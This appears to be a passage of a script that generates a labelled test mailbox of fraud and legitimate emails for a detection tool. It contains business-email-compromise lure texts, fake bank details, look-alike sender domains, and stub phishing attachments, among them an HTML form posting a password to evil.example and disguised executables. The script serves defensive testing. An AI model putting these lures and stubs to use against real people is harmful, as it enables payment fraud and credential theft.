  const [label, ...rest] = domain.split('.');
  const suffix = rest.join('.');
  const swaps = {
    de: 'com',
    'com.br': 'com',
    cn: 'com.cn',
    es: 'com.es',
    fr: 'com',
    ru: 'com',
    ae: 'co',
    'com.tr': 'com',
    it: 'com',
    'co.uk': 'uk',
    com: 'co',
    pl: 'com.pl',
    nl: 'com',
    'com.au': 'au',
    cl: 'com',
    in: 'co.in',
  };
  return `${label}.${swaps[suffix] ?? 'net'}`;
}
const subdomain = (domain) => `${domain}.${choose(['secure-payments.net', 'invoice-portal.com', 'mail-verify.org', 'docs-share.info'])}`;

const fraudBank = () => {
  const country = choose(['GB', 'HK', 'TR', 'PL', 'NL']);
  if (country === 'HK') return { account: `${digits(3)}-${digits(6)}-${digits(3)}`, bic: 'HSBCHKHHHKH', bankName: 'HSBC Hong Kong' };
  return { iban: newIban(country), bic: choose(['BARCGB22XXX', 'INGBNL2AXXX', 'BPKOPLPWXXX', 'TCZBTR2AXXX']) };
};

function impersonation(scenario, c, sender, options = {}) {
  const lang = options.lang ?? c.lang;
  const ctx = ctxFor(c, lang);
  const bank = bankBlock(fraudBank(), lang, c.name);
  const change = choose(BANK_CHANGE[lang])({ ...ctx, bank });
  const tail = (rnd() < 0.6 ? choose(URGENT_TAIL[lang]) : '') + (options.secret ? choose(SECRET_TAIL[lang]) : '');
  const thread = threads.get(c.key);
  const domain = sender.split('@')[1];
  writeEval('fraud', scenario, {
    fromName: options.fromName ?? c.name,
    fromAddress: sender,
    to: [us],
    replyTo: options.replyTo,
    subject: options.inThread ? `Re: ${thread.subject}` : change.subject,
    text: change.text + tail,
    date: nextDate(),
    messageId: newMessageId(domain),
    inReplyTo: options.inThread ? thread.ids[thread.ids.length - 1] : undefined,
    references: options.inThread ? thread.ids : undefined,
    auth: options.auth ?? choose([AUTH_PASS(domain), AUTH_NONE(domain), undefined]),
    attachments: rnd() < 0.4 ? [PDF(`${ctx.po}-invoice.pdf`)] : [],
  });
}

// 1. look-alike domains (typing errors) asking to pay a new account, every language.
for (let i = 0; i < 17; i++) {
  const c = withBank[i % withBank.length];
  impersonation('lookalike-domain', c, `${c.user}@${typo(c.domain)}`);
}
// 2. homoglyph (IDN/punycode) domains.
for (let i = 0; i < 6; i++) {
  const c = withBank[(i * 2) % withBank.length];
  impersonation('homoglyph-domain', c, `${c.user}@${homoglyph(c.domain)}`);
}
// 3. TLD swaps.
for (let i = 0; i < 6; i++) {
  const c = withBank[(i * 3 + 1) % withBank.length];
  impersonation('tld-swap', c, `${c.user}@${tldSwap(c.domain)}`);
}
// 4. the real domain as a subdomain of another one.
for (let i = 0; i < 4; i++) {
  const c = withBank[(i * 4 + 2) % withBank.length];
  impersonation('brand-subdomain', c, `${c.user}@${subdomain(c.domain)}`);
}
// 5. a known contact's name on a free-mail address.
for (let i = 0; i < 8; i++) {
  const c = withBank[(i * 5 + 3) % withBank.length];
  const free = choose(['gmail.com', 'outlook.com', '163.com', 'yahoo.com', 'hotmail.com', 'qq.com']);
  impersonation('display-name-free-mail', c, `${c.user.replace(/\./g, '')}.${c.key}${digits(2)}@${free}`, { secret: rnd() < 0.3 });
}
// 6. the real address forged (DMARC fails), replies diverted to free-mail.
for (let i = 0; i < 5; i++) {
  const c = withBank[(i * 7 + 1) % withBank.length];
  impersonation('spoofed-reply-to', c, c.address, {
    auth: AUTH_FAIL(c.domain),
    replyTo: `${c.user.replace(/\./g, '')}.finance@${choose(['gmail.com', 'outlook.com', '163.com'])}`,
  });
}
// 7. thread hijack: a look-alike replies inside the real conversation.
for (let i = 0; i < 6; i++) {
  const c = withBank[(i * 3 + 2) % withBank.length];
  impersonation('thread-hijack', c, `${c.user}@${choose([typo(c.domain), tldSwap(c.domain)])}`, { inThread: true });
}
// 8. the partner's real mailbox taken over: authenticated, in its thread, new account.
for (let i = 0; i < 5; i++) {
  const c = withBank[(i * 4 + 3) % withBank.length];
  impersonation('compromised-account', c, c.address, { auth: AUTH_PASS(c.domain), inThread: true });
}
// 9. our own boss, from a look-alike of our own domain, wants a secret urgent transfer.
const BOSS = [
  [
    'en',
    'Please arrange an urgent wire of USD 48,500 to the supplier below today. Keep this confidential, I am in a meeting and cannot take calls.\n\nIBAN: GB33BUKB20201555555555\nSWIFT: BUKBGB22',
  ],
  [
    'zh',
    '小张,今天务必把这笔货款 USD 36,000 汇到下面的新账户,此事请保密,我正在开会,不方便接电话。\n\n收款人:Golden Bridge Trading Ltd\n账号:012-345678-001\nSWIFT:HSBCHKHHHKH',
  ],
  ['en', 'Are you at your desk? I need you to process a payment for a new vendor before the cut-off. Email only please.'],
  ['zh', '你好,我在外地出差,需要你马上安排一笔付款,具体账户稍后发你,请勿外传。'],
];
for (let i = 0; i < 4; i++) {
  const [lang, text] = BOSS[i];
  const domain = choose(['hengda-lightlng.com', 'hengdalighting.com', 'hengda-lighting.co', 'hengda-lightings.com']);
  writeEval('fraud', 'own-domain-lookalike', {
    fromName: lang === 'zh' ? '张总' : 'Zhang Wei (CEO)',
    fromAddress: `zhangwei@${domain}`,
    to: [us],
    subject: lang === 'zh' ? '急事' : 'Urgent request',
    text,
    date: nextDate(),
    messageId: newMessageId(domain),
    auth: AUTH_NONE(domain),
  });
}
// 10. dangerous attachments from strangers (phishing pages, programs, macro files, disk images).
const ATTACHMENT_ATTACKS = [
  [
    'Payment advice',
    'Please see the attached remittance advice and log in to view the transfer.',
    {
      filename: 'Remittance_Advice.html',
      mime: 'text/html',
      content: Buffer.from('<html><form action="https://evil.example/login"><input name="password"></form></html>'),
    },
  ],
  [
    'Shipping documents',
    'Original B/L and invoice attached, please check.',
    {
      filename: 'BL_invoice.zip',
      mime: 'application/zip',
      content: zip([
        { name: 'BL_scan.pdf.exe', content: 'MZ' },
        { name: 'readme.txt', content: 'open the scan' },
      ]),
    },
  ],
  [
    'New order PO-88231',
    'Please find our purchase order. Password for the archive: 2026',
    { filename: 'PO-88231.zip', mime: 'application/zip', content: zip([{ name: 'PO-88231.pdf', content: '%PDF', encrypted: true }]) },
  ],
  [
    'Quotation request',
    'Enable editing to see the product list.',
    { filename: 'RFQ_list.xlsm', mime: 'application/vnd.ms-excel.sheet.macroEnabled.12', content: Buffer.from('PK') },
  ],
  [
    'DHL: parcel on hold',
    'Your parcel is on hold. Open the attached form to release it.',
    { filename: 'DHL_Form.iso', mime: 'application/octet-stream', content: Buffer.from('CD001') },
  ],
  [
    'Invoice overdue',
    'Invoice attached, pay immediately to avoid penalty.',
    { filename: 'invoice.js', mime: 'application/javascript', content: Buffer.from('WScript.Shell') },
  ],
  [
    '询价单',
    '请查看附件询价单,需要启用宏才能显示。',
    { filename: '询价单.docm', mime: 'application/vnd.ms-word.document.macroEnabled.12', content: Buffer.from('PK') },
  ],
  [
    'Contract scan',
    'Scanned contract, view in browser.',
    { filename: 'contract.htm', mime: 'text/html', content: Buffer.from('<script>location="https://evil.example"</script>') },
  ],
  [
    'Bank slip',
    'TT copy attached for your reference.',
    { filename: 'TT_copy.rar.zip', mime: 'application/zip', content: zip([{ name: 'TT_copy.scr', content: 'MZ' }]) },
  ],
];
for (const [subject, text, attachment] of ATTACHMENT_ATTACKS) {
  const domain = choose(['global-trade-partners.com', 'quick-sourcing.net', 'gmail.com', 'intl-buyers.org', 'yahoo.com']);
  const address = `${choose(['purchase', 'info', 'john.smith', 'accounts', 'david.lee'])}@${domain}`;
  writeEval('fraud', 'risky-attachment', {
    fromName: choose(['Purchasing Dept', 'John Smith', 'Accounts', 'David Lee']),
    fromAddress: address,
    to: [us],
    subject,
    text,
    date: nextDate(),
    messageId: newMessageId(domain),
    auth: choose([AUTH_NONE(domain), undefined, `spf=softfail smtp.mailfrom=${domain}; dkim=none; dmarc=none`]),
    attachments: [attachment],
  });
}
// 11. subtle ones: an unknown "new agent" of a known customer sends payment instructions from a
//     plausible but unrelated domain, with no look-alike and no history to compare with.
for (let i = 0; i < 3; i++) {
  const c = withBank[(i * 6) % withBank.length];
  const domain = choose(['global-settlement-services.com', 'intl-collections.net', 'trade-finance-agent.com']);
  impersonation('unrelated-agent', c, `accounts@${domain}`, { fromName: `${c.name.split(' ')[0]} - Accounts` });
}
// 12. the compromised partner sends only a short note and a PDF invoice carrying the new account:
//     the first announces the change inside the PDF, the second only carries the new account in
//     its bank block (Pier reads PDF/DOCX text since the attachment-text change).
for (let i = 0; i < 2; i++) {
  const c = withBank[(i * 9 + 1) % withBank.length];
  const thread = threads.get(c.key);
  const lang = LATIN.has(c.lang) ? c.lang : 'en';
  const letter = withSeed(1200 + i, () => {
    const ctx = ctxFor(c, lang);
    const bank = c.bank.iban ? { iban: newIban(c.bank.iban.slice(0, 2)), bic: c.bank.bic } : { account: digits(16), bic: c.bank.bic };
    return (i === 0 ? choose(BANK_CHANGE[lang]) : INVOICE[lang])({ ...ctx, bank: bankBlock(bank, lang, c.name) });
  });
  writeEval('fraud', 'bank-details-only-in-pdf', {
    fromName: c.name,
    fromAddress: c.address,
    to: [us],
    subject: `Re: ${thread.subject}`,
    text: 'Please see the attached updated invoice for the balance payment.\n\nThanks',
    date: nextDate(),
    messageId: newMessageId(c.domain),
    inReplyTo: thread.ids[thread.ids.length - 1],
    references: thread.ids,
    auth: AUTH_PASS(c.domain),
    attachments: [TEXT_PDF('Invoice_updated.pdf', `${letter.subject}\n\n${letter.text}`)],
  });
}

// ------------------------------------------------------------------------------------------
// Hard legitimate cases, kept to keep the figures honest: real situations the signals misread.

// (h1) a known contact writes from a personal free-mail address while travelling.
for (const key of ['globex', 'brightway']) {
  const c = COUNTERPARTIES.find((p) => p.key === key);
  const ctx = ctxFor(c);
  writeEval('legit', 'known-contact-personal-mail', {
    fromName: c.name,
    fromAddress: `${c.user.replace(/\./g, '')}${digits(2)}@gmail.com`,
    to: [us],
    subject: `${c.lang === 'pt' ? 'Pedido' : 'Order'} ${ctx.po}`,
    text: `${choose(FOLLOW_UP[c.lang])(ctx).text}\n\nSent from my phone, I am travelling this week.`,
    date: nextDate(),
    messageId: newMessageId('gmail.com'),
    auth: AUTH_PASS('gmail.com'),
  });
}
// (h2) a different person with the same name as a known contact.
writeEval('legit', 'namesake-new-buyer', {
  fromName: 'James Wilson',
  fromAddress: 'jwilson.lighting@outlook.com',
  to: [us],
  subject: 'Inquiry: LED strip 5050',
  text: 'Hello,\n\nI run a small lighting shop in Cape Town. Please quote 500 m of LED strip 5050, CIF Cape Town.\n\nRegards,\nJames Wilson',
  date: nextDate(),
  messageId: newMessageId('outlook.com'),
  auth: AUTH_PASS('outlook.com'),
});
// (h3) a new buyer whose company name is close to a known customer's.
for (const [name, address, lang] of [
  ['Alejandro Ruiz', 'compras@nova-luz.com.mx', 'es'],
  ['Kevin Park', 'kevin@pacificlamp.com', 'en'],
]) {
  const domain = address.split('@')[1];
  const ctx = { ...ctxFor({ name, port: 'Manzanillo', country: 'México', lang }, lang), name };
  const inquiry = choose(INQUIRY[lang])(ctx);
  writeEval('legit', 'similar-name-new-buyer', {
    fromName: name,
    fromAddress: address,
    to: [us],
    subject: inquiry.subject,
    text: inquiry.text,
    date: nextDate(),
    messageId: newMessageId(domain),
    auth: AUTH_PASS(domain),
  });
}

// ------------------------------------------------------------------------------------------
// Documents: bank details inside PDF/DOCX attachments (added with attachment-text reading).

// 13. compromised partners put the new account in a Word letter; the mail itself says nothing.
for (const key of ['acme', 'lumiere']) {
  const c = COUNTERPARTIES.find((p) => p.key === key);
  const thread = threads.get(c.key);
  const ctx = ctxFor(c);
  const bank = { iban: newIban(choose(['GB', 'NL', 'PL'])), bic: choose(['BARCGB22XXX', 'INGBNL2AXXX', 'BPKOPLPWXXX']) };
  const letter = (key === 'acme' ? INVOICE[c.lang] : choose(BANK_CHANGE[c.lang]))({ ...ctx, bank: bankBlock(bank, c.lang, c.name) });
  writeEval('fraud', 'bank-details-only-in-docx', {
    fromName: c.name,
    fromAddress: c.address,
    to: [us],
    subject: `Re: ${thread.subject}`,
    text:
      key === 'acme' ? 'Anbei die aktualisierte Rechnung.\n\nGrüße' : 'Veuillez trouver ci-joint la facture mise à jour.\n\nCordialement',
    date: nextDate(),
    messageId: newMessageId(c.domain),
    inReplyTo: thread.ids[thread.ids.length - 1],
    references: thread.ids,
    auth: AUTH_PASS(c.domain),
    attachments: [TEXT_DOCX(`${key === 'acme' ? 'Rechnung' : 'Facture'}-${ctx.po}.docx`, `${letter.subject}\n\n${letter.text}`)],
  });
}
// (d1) known partners send their invoice as a PDF or DOCX with the account we already know.
for (const [key, kind] of [
  ['acme', 'pdf'],
  ['novaluz', 'pdf'],
  ['lucebella', 'docx'],
  ['brightway', 'pdf'],
  ['globex', 'docx'],
  ['pacific', 'pdf'],
]) {
  const c = COUNTERPARTIES.find((p) => p.key === key);
  const ctx = ctxFor(c);
  const invoice = INVOICE[c.lang]({ ...ctx, bank: bankBlock(c.bank, c.lang, c.name) });
  const file = `${invoice.subject.replace(/\s+/g, '-')}.${kind}`;
  writeEval('legit', 'invoice-document-known-bank', {
    fromName: c.name,
    fromAddress: c.address,
    to: [us],
    subject: invoice.subject,
    text: `Please find the invoice attached.\n\n${c.name}`,
    date: nextDate(),
    messageId: newMessageId(c.domain),
    auth: AUTH_PASS(c.domain),
    attachments: [
      kind === 'pdf' ? TEXT_PDF(file, `${invoice.subject}\n\n${invoice.text}`) : TEXT_DOCX(file, `${invoice.subject}\n\n${invoice.text}`),
    ],
  });
}
// (d2) a forwarder's booking confirmation as a PDF: bank details of a first-time sender, no change.
writeEval('legit', 'forwarder-pdf-first-bank', {
  fromName: 'Ocean Link Logistics',
  fromAddress: 'booking@oceanlink-logistics.com',
  to: [us],
  subject: 'Booking confirmation SZX-HAM 40HQ',
  text: 'Dear Lily,\n\nPlease find our booking confirmation and debit note attached.\n\nBest regards,\nOcean Link Logistics',
  date: nextDate(),
  messageId: newMessageId('oceanlink-logistics.com'),
  auth: AUTH_PASS('oceanlink-logistics.com'),
  attachments: [
    TEXT_PDF(
      'Debit-note-SZX-HAM.pdf',
      'DEBIT NOTE\nOcean freight SZX-HAM 1 x 40HQ USD 2,350.00\nTHC USD 180.00\nPayment within 30 days.\nBeneficiary: Ocean Link Logistics Ltd\nAccount No: 741 852 963 001\nSWIFT: HSBCHKHHHKH',
    ),
  ],
});
// (d3) a known partner's password-protected statement: Pier never opens encrypted files.
{
  const c = COUNTERPARTIES.find((p) => p.key === 'brightway');
  writeEval('legit', 'encrypted-pdf-statement', {
    fromName: c.name,
    fromAddress: c.address,
    to: [us],
    subject: 'Statement of account Q1',
    text: 'Hi Lily,\n\nOur statement of account is attached; the password is your customer number.\n\nJames',
    date: nextDate(),
    messageId: newMessageId(c.domain),
    auth: AUTH_PASS(c.domain),
    attachments: [TEXT_PDF('Statement-Q1.pdf', 'Statement of account. Balance due USD 12,400.', { userPassword: 'HL-2291' })],
  });
}

await flush();
writeFileSync(path.join(outDir, 'labels.json'), `${JSON.stringify({ mailbox: MAILBOX, history: 'history', mails: labels }, null, 2)}\n`);
const count = (label) => labels.filter((l) => l.label === label).length;
console.log(JSON.stringify({ history: historyCount, legit: count('legit'), fraud: count('fraud') }));
